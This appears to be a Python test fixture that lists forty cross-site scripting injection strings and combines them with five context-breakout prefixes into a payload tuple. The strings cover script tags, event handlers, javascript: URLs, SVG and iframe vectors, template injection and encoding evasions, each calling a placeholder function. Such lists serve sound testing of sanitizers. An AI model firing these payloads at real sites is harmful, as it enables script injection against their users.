"""Texts that run in a page which takes a text for markup, an address or a program."""

from itertools import product

# Each calls `hit`, in a way of its own.
ACTS = (
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    "<script src=data:,hit()></script>",
    "<img src=x: onerror=hit()>",
    "<img/src='x:'/onerror='hit()'/>",
    "<image src=x: onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math href=javascript:hit()>x</math>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe onload=hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x: onerror=hit()></audio>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<button popovertarget=x onclick=hit()>x</button>",
    "<a href=javascript:hit()>x</a>",
    "<a href=JaVaScRiPt&colon;hit()>x</a>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=hit()>x</b>",
    "<link rel=stylesheet href=data:, onload=hit()>",
    "<base href=javascript:/hit()//>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<template><img src=x: onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x: onerror=hit()>'></noscript>",
    "{{ hit() }}{% hit() %}{{ ''.__class__.__mro__ }}",
    "${hit()}#{hit()}`-hit()-`",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&lt;script&gt;hit()&lt;/script&gt;&#60;img src=x: onerror=hit()&#62;",
    "javascript:hit()//%0Ahit()",
)
# What each may stand behind: in a text, an attribute, a program, a comment or a title.
ENDS = ("", '">', "'> onmouseover=hit() x='", "';hit()//\";hit()//", "--></title>")

PAYLOADS = tuple(f"{end}{act}" for end, act in product(ENDS, ACTS))
